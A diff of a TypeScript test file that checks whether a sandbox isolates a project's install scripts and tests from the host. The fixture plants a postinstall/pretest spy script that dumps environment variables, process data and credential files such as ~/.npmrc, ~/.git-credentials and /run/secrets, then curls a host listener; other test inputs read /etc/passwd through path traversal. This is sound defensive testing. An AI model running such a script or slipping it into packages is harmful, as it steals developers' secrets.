@@ -1,4 +1,7 @@
+import { once } from 'node:events';
 import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
@@ -14,6 +17,8 @@ import {
   gitOf,
   historyOf,
   homeOf,
+  NUMBER_FILES,
+  numberRepository,
   pullsFor,
   RIGHT,
   run,
@@ -21,6 +26,7 @@ import {
   worldOf,
   write,
 } from './stories.ts';
+import { findLeaks } from './leak-search.ts';
 import { openWorld, until } from './world.ts';
 import type { ServiceProcess } from '../../demo/bench.ts';
 import type { Recorded } from '../../src/state/facts.ts';
@@ -103,6 +109,27 @@ const FORGING = [
   'echo forged',
 ].join('\n');
 
+/** What a dependency's install script, or the tests of a project, would do: look for secrets, call home, leave a file on the host. */
+function malicious(folder: string, port: number): Readonly<Record<string, string>> {
+  const scripts = { postinstall: 'sh spy.sh postinstall', pretest: 'sh spy.sh pretest', test: 'sh check.sh' };
+  const home = [`127.0.0.1:${port}`, `172.17.0.1:${port}`, `localhost:${port}`, `host.docker.internal:${port}`];
+  const spy = [
+    `mkdir -p ${folder}; touch ${folder}/$1`,
+    '{ echo "$1 ran"; env; for n in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr "\\0" "\\n" < $n; done',
+    'cat ~/.npmrc ~/.netrc ~/.git-credentials ~/.docker/config.json /run/secrets/* /workspace/home/.config/*/*; git config --list',
+    ...home.flatMap((at) => [
+      `curl -sS --max-time 5 --noproxy "*" http://${at}/direct`,
+      `curl -sS --max-time 5 --noproxy "" --proxy http://127.0.0.1:8118 http://${at}/by-proxy`,
+    ]),
+    '} >> $HOME/spied.txt 2>&1; true',
+  ];
+  return {
+    ...NUMBER_FILES,
+    'package.json': JSON.stringify({ name: 'bad', version: '1.0.0', scripts }),
+    'spy.sh': spy.join('\n'),
+  };
+}
+
 const OUTSIDE = [
   toolUse('read_file', { path: '/etc/passwd' }),
   toolUse('read_file', { path: '../../etc/passwd' }),
@@ -119,6 +146,10 @@ const OUTSIDE = [
 
 function storiesWith(folder: string): Readonly<Record<string, Story>> {
   return {
+    installs: {
+      plan: actionPlan({ setup: ['npm install --offline --no-audit'], testCommand: 'npm test' }),
+      steps: [run('npm test; cp $HOME/spied.txt spied.txt'), ...RIGHT],
+    },
     hardened: { steps: [run('until [ -e /tmp/seen ]; do sleep 0.05; done'), ...RIGHT] },
     flood: {
       steps: [
@@ -193,12 +224,22 @@ describe('what happens in a sandbox', () => {
   let world: World;
   let service: ServiceProcess;
   let traps: string;
+  const reached: string[] = [];
+  const listener = createServer(({ url }, answer) => {
+    reached.push(url ?? '');
+    answer.end();
+  });
   beforeAll(async () => {
     traps = await mkdtemp(join(tmpdir(), 'pw-traps-'));
-    world = await openWorld(worldOf(storiesWith(traps)));
+    listener.listen(0, '0.0.0.0');
+    await once(listener, 'listening');
+    const { port } = listener.address() as AddressInfo;
+    const { others = [], ...first } = worldOf(storiesWith(traps));
+    world = await openWorld({ ...first, repository: numberRepository('installs', malicious(traps, port)), others });
     service = await world.start({ PLANWRIGHT_QUEUE__CONCURRENCY: '4' });
   });
   afterAll(async () => {
+    listener.close();
     await world?.close();
     await rm(traps, { recursive: true, force: true });
   });
@@ -327,6 +368,20 @@ describe('what happens in a sandbox', () => {
         forced || ref !== `refs/heads/planwright/1-story-${repository.split('/')[0] ?? ''}`,
     );
     expect(astray).toEqual([]);
+  });
+
+  it('runs install scripts and tests of a project there alone: they find no secret and reach nobody on the host (G18)', async () => {
+    const { issue, home } = await asked('installs');
+    const history = await untilOver(world, issue, home);
+    expect(history.at(-1)).toMatchObject({ status: 'succeeded', reason: 'finished' });
+    const spied = gitOf(world, home)('show', `planwright/${issue}-story-installs:spied.txt`);
+    for (const part of ['postinstall ran', 'pretest ran', 'HTTP_PROXY=']) expect(spied).toContain(part);
+    const tokens = [...world.github.world.tokens.keys()].map((token, index) => [`token ${index}`, token] as const);
+    expect(tokens.length).toBeGreaterThan(0);
+    const secrets = { ...world.secrets, ...Object.fromEntries(tokens) };
+    expect(findLeaks(secrets, [{ name: 'what they saw', text: spied }])).toEqual([]);
+    expect(reached).toEqual([]);
+    expect(await readdir(traps)).toEqual([]);
   });
 
   it('may not change a workflow: nothing is pushed, and people are told (GH-7)', async () => {
